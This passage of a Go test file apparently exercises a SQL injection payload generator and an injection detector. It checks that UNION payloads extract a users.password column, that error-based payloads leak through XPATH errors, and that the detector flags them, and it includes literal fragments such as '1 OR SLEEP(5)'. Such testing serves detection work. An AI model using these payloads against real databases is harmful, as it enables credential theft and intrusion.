	ps := Generate(Union, Context{Columns: 3, Table: "users", Column: "password"}, 20)
	for _, p := range ps {
		res, err := db.Exec("SELECT a, b, c FROM wide WHERE a=" + p)
		if err == nil && len(res.Rows) > 0 {
			working++
		}
	}
	if working < 10 {
		t.Errorf("only %d/%d 3-column union payloads work", working, len(ps))
	}
}

func TestStripLeadingValue(t *testing.T) {
	tests := map[string]string{
		"1 AND 1=1":     "1=1",
		"-1 OR 2>1":     "2>1",
		"1 OR SLEEP(5)": "SLEEP(5)",
		"":              "1=1",
	}
	for in, want := range tests {
		if got := stripLeadingValue(in); got != want {
			t.Errorf("stripLeadingValue(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestErrorBasedPayloadsLeakThroughErrors(t *testing.T) {
	db := execDB(t)
	leaking := 0
	payloads := Generate(ErrorBased, Context{}, 20)
	if len(payloads) == 0 {
		t.Fatal("no error-based payloads generated")
	}
	for _, p := range payloads {
		_, err := db.Exec("SELECT id, title FROM posts WHERE id=" + p)
		if err != nil && strings.Contains(err.Error(), "XPATH") {
			leaking++
		}
	}
	if leaking < len(payloads)/2 {
		t.Errorf("only %d/%d error-based payloads leak via errors", leaking, len(payloads))
	}
}

func TestErrorBasedDetectedByNTI(t *testing.T) {
	analyzer := nti.MustNew()
	for _, p := range Generate(ErrorBased, Context{}, 20) {
		q := "SELECT id, title FROM posts WHERE id=" + p
		res := analyzer.Analyze(q, nil, []nti.Input{{Source: "get", Name: "id", Value: p}})
		if !res.Attack {
			t.Errorf("error-based payload %q not detected", p)
		}
	}
}

func TestGenerateAllIncludesErrorBased(t *testing.T) {
	all := GenerateAll(Context{}, 5)
	if len(all[ErrorBased]) == 0 {
		t.Error("GenerateAll missing error-based class")
	}
	if ErrorBased.String() != "Error Based" {
		t.Error("ErrorBased.String")
	}
}
